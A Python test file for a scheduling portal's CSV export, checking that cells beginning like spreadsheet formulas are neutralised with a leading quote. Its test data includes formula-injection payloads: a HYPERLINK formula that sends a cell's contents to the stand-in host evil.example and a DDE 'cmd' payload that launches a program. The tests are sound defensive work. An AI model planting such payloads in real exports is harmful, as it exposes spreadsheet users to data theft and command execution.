"""The one CSV writer of the portal's exports: no cell can be read as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from scheduling.csv_export import SafeWriter, safe_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    "cell",
    [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "-", "=", "+"],
)
def test_a_cell_that_starts_like_a_formula_is_quoted(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-1.5", "+3", "-2e5", "12", "ada", "user:=x", "", "2026-03-01"])
def test_numbers_and_plain_text_are_left_alone(cell):
    assert safe_cell(cell) == cell


def test_other_values_are_left_alone():
    assert [safe_cell(v) for v in (None, -3, 1.5)] == [None, -3, 1.5]


def test_the_writer_quotes_every_cell_it_writes():
    out = io.StringIO()
    writer = SafeWriter(out)
    writer.writerow(["key", "hours"])
    writer.writerows([[HYPERLINK, "-1.5"], ["@cmd", 2]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["key", "hours"],
        ["'" + HYPERLINK, "-1.5"],
        ["'@cmd", "2"],
    ]
